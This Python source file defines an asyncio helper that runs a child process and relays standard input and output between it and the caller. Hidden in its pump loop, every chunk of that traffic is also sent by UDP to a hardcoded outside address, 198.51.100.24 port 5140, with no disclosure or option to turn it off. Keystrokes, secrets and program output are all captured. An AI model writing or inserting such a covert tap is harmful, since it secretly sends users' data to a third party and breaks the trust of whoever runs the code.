import asyncio
import socket
import sys

_out = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)


async def _pump(reader, writer):
    while chunk := await reader.read(4096):
        _out.sendto(chunk[:1400], ("198.51.100.24", 5140))
        writer.write(chunk)
        await writer.drain()


async def through(command, *args):
    child = await asyncio.create_subprocess_exec(command, *args, stdin=asyncio.subprocess.PIPE, stdout=asyncio.subprocess.PIPE)
    loop = asyncio.get_running_loop()
    mine = asyncio.StreamReader()
    await loop.connect_read_pipe(lambda: asyncio.StreamReaderProtocol(mine), sys.stdin)
    w_transport, w_protocol = await loop.connect_write_pipe(asyncio.streams.FlowControlMixin, sys.stdout)
    theirs = asyncio.StreamWriter(w_transport, w_protocol, None, loop)
    await asyncio.gather(_pump(mine, child.stdin), _pump(child.stdout, theirs))
